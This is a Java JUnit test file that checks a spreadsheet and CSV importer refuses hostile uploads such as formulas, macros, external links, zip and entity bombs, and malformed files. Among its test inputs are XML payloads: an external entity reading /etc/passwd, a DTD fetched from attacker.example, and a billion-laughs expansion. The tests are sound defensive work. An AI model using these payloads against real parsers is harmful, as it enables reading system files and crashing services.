package io.plimsoll.tablefile;

import static io.plimsoll.tablefile.TableFileRefusal.FILE_ENCRYPTED_OR_OLD;
import static io.plimsoll.tablefile.TableFileRefusal.FILE_TOO_LARGE;
import static io.plimsoll.tablefile.TableFileRefusal.FILE_WITH_DOCTYPE;
import static io.plimsoll.tablefile.TableFileRefusal.FILE_WITH_EXTERNAL_LINK;
import static io.plimsoll.tablefile.TableFileRefusal.FILE_WITH_FORMULA;
import static io.plimsoll.tablefile.TableFileRefusal.FILE_WITH_MACRO;
import static io.plimsoll.tablefile.TableFileRefusal.FILE_WITH_UNKNOWN_COLUMN;
import static io.plimsoll.tablefile.TableFileRefusal.UNREADABLE_FILE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.plimsoll.kernel.BillingException;
import io.plimsoll.rules.PolicySets;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Files that somebody made to do harm. Each is refused within seconds, in a JVM that could not hold what it unfolds to. */
@Timeout(20)
class HostileFilesTest {

    private static final String EXTERNAL = "<Relationships><Relationship Id=\"e\" Type=\"http://x/%s\""
            + " Target=\"http://attacker.example/x\" TargetMode=\"External\"/></Relationships>";

    @Test
    void refusesFormulas() {
        refused(FILE_WITH_FORMULA, new Workbook().cells("<c r=\"C2\"><f>1+1</f><v>2</v></c>"));
        refused(
                FILE_WITH_FORMULA,
                new Workbook().cells("<c r=\"C2\" t=\"str\"><f>HYPERLINK(\"http://x\")</f><v>x</v></c>"));
        refused(FILE_WITH_FORMULA, new Workbook().cells("<c r=\"C2\"><f t=\"shared\" si=\"0\"/><v>2</v></c>"));
    }

    @Test
    void refusesMacros() {
        refused(FILE_WITH_MACRO, new Workbook().part("xl/vbaProject.bin", new byte[100]));
        refused(FILE_WITH_MACRO, new Workbook().part("XL/VBAPROJECT.BIN", new byte[100]));
        refused(FILE_WITH_MACRO, new Workbook().part("xl/macrosheets/sheet1.xml", "<x/>"));
        refused(
                FILE_WITH_MACRO,
                new Workbook()
                        .part(
                                "[Content_Types].xml",
                                "<Types><Override PartName=\"/xl/workbook.xml\""
                                        + " ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>"));
    }

    @Test
    void refusesLinksToElsewhere() {
        refused(FILE_WITH_EXTERNAL_LINK, new Workbook().part("xl/externalLinks/externalLink1.xml", "<externalLink/>"));
        refused(
                FILE_WITH_EXTERNAL_LINK,
                new Workbook().part("xl/worksheets/_rels/sheet1.xml.rels", EXTERNAL.formatted("hyperlink")));
        refused(
                FILE_WITH_EXTERNAL_LINK,
                new Workbook().part("xl/_rels/x.rels", EXTERNAL.formatted("attachedTemplate")));
        refused(FILE_WITH_EXTERNAL_LINK, new Workbook().part("xl/embeddings/oleObject1.bin", new byte[10]));
        refused(FILE_WITH_EXTERNAL_LINK, new Workbook().part("xl/connections.xml", "<connections/>"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">",
                "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY e \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>",
                "<!DOCTYPE x>"
            })
    void refusesDocumentTypesInEveryPart(String doctype) {
        String sheet = doctype + "<worksheet><sheetData>" + Workbook.HEADER
                + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&e;</t></is></c></row></sheetData></worksheet>";
        refused(FILE_WITH_DOCTYPE, new Workbook().part("xl/worksheets/sheet1.xml", sheet));
        byte[] utf16 = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + sheet).getBytes(StandardCharsets.UTF_16);
        refused(FILE_WITH_DOCTYPE, new Workbook().part("xl/worksheets/sheet1.xml", utf16));
        for (String part : new String[] {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml"}) {
            refused(FILE_WITH_DOCTYPE, new Workbook().part(part, doctype + "<x/>"));
        }
    }

    @Test
    void refusesBombs() {
        refused(FILE_TOO_LARGE, new Workbook().part("xl/media/zeros.bin", new byte[100_000_000]));
        Workbook many = new Workbook();
        for (int i = 0; i < 600; i++) {
            many.part("xl/media/" + i, new byte[0]);
        }
        refused(FILE_TOO_LARGE, many);
        refused(FILE_TOO_LARGE, new byte[6_000_000]);
    }

    @Test
    void refusesABillionRowsAndColumns() {
        refused(
                FILE_TOO_LARGE,
                new Workbook()
                        .sheet(Workbook.HEADER
                                + "<row><c t=\"inlineStr\"><is><t>a</t></is></c></row>".repeat(200_000)));
        refused(UNREADABLE_FILE, new Workbook().cells("<c r=\"ZZZZZZZZ2\"><v>1</v></c>"));
        refused(UNREADABLE_FILE, new Workbook().cells("<c r=\"XFE2\"><v>1</v></c>"));
        refused(UNREADABLE_FILE, new Workbook().cells("<c r=\"XFD2\"><v>1</v></c>"));
        refused(UNREADABLE_FILE, new Workbook().cells("<c><v>1</v></c>".repeat(20_000)));
        assertThat(TableFiles.read(
                                PolicySets.PLAN.schema(),
                                new Workbook()
                                        .sheet(Workbook.HEADER
                                                + "<row r=\"1000000000\"><c r=\"A1000000000\"><v>1</v></c></row>")
                                        .bytes())
                        .rows())
                .hasSize(1);
        refused(FILE_TOO_LARGE, ("row,plan\n" + "a,b\n".repeat(900_000)).getBytes(StandardCharsets.UTF_8));
        refused(UNREADABLE_FILE, ("row,plan\na,b" + ",".repeat(1_000) + "c").getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void refusesTextsAndNumbersThatGrow() {
        refused(
                FILE_TOO_LARGE,
                new Workbook().cells("<c r=\"B2\" t=\"inlineStr\"><is><t>" + "ab".repeat(1_100) + "</t></is></c>"));
        for (String number :
                new String[] {"1E999999999", "1E+400", "1E-400", "9".repeat(60), "NaN", "Infinity", "0x1p3", "１"}) {
            refused(UNREADABLE_FILE, new Workbook().cells("<c r=\"C2\"><v>" + number + "</v></c>"));
        }
    }

    @Test
    void refusesOldEncryptedAndBrokenFiles() {
        byte[] ole = new byte[4_096];
        System.arraycopy(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0}, 0, ole, 0, 4);
        refused(FILE_ENCRYPTED_OR_OLD, ole);
        byte[] whole = new Workbook().bytes();
        refused(UNREADABLE_FILE, Arrays.copyOf(whole, 200));
        byte[] locked = whole.clone();
        locked[6] |= 1;
        refused(UNREADABLE_FILE, locked);
        refused(UNREADABLE_FILE, new byte[] {'P', 'K', 3, 4});
        refused(UNREADABLE_FILE, new byte[0]);
        refused(UNREADABLE_FILE, new byte[] {(byte) 0xFF, (byte) 0xFE, 'r', 0});
        refused(UNREADABLE_FILE, new Workbook().part("xl/worksheets/sheet1.xml", "<worksheet><row>"));
        refused(UNREADABLE_FILE, new Workbook().cells("<c r=\"A2\" t=\"s\"><v>7</v></c>"));
        refused(UNREADABLE_FILE, new Workbook().cells("<c r=\"A2\" t=\"e\"><v>#REF!</v></c>"));
    }

    @Test
    void refusesATableThatNamesOtherColumns() {
        refused(FILE_WITH_UNKNOWN_COLUMN, "row;plan;baseFee\na;b;1".getBytes(StandardCharsets.UTF_8));
        refused(FILE_WITH_UNKNOWN_COLUMN, "row,plan,salary\na,b,1".getBytes(StandardCharsets.UTF_8));
        refused(FILE_WITH_UNKNOWN_COLUMN, "row,plan,plan\na,b,1".getBytes(StandardCharsets.UTF_8));
        refused(FILE_WITH_UNKNOWN_COLUMN, "plan,baseFee\na,1".getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void refusesPercentagesWhoseNumberIsAHundredthOfWhatIsShown() {
        refused(
                UNREADABLE_FILE,
                new Workbook()
                        .relate("<Relationship Id=\"s\" Type=\"http://x/styles\" Target=\"styles.xml\"/>")
                        .part(
                                "xl/styles.xml",
                                "<styleSheet><cellXfs><xf numFmtId=\"0\"/><xf numFmtId=\"10\"/></cellXfs></styleSheet>")
                        .cells("<c r=\"C2\" s=\"1\"><v>0.125</v></c>"));
    }

    private static void refused(TableFileRefusal code, Workbook workbook) {
        refused(code, workbook.bytes());
    }

    private static void refused(TableFileRefusal code, byte[] file) {
        assertThatThrownBy(() -> TableFiles.read(PolicySets.PLAN.schema(), file))
                .isInstanceOfSatisfying(BillingException.class, refused -> {
                    assertThat(refused.code()).as(refused.getMessage()).isEqualTo(code);
                    assertThat(refused.getMessage()).startsWith("expected ").hasSizeLessThan(600);
                });
    }
}
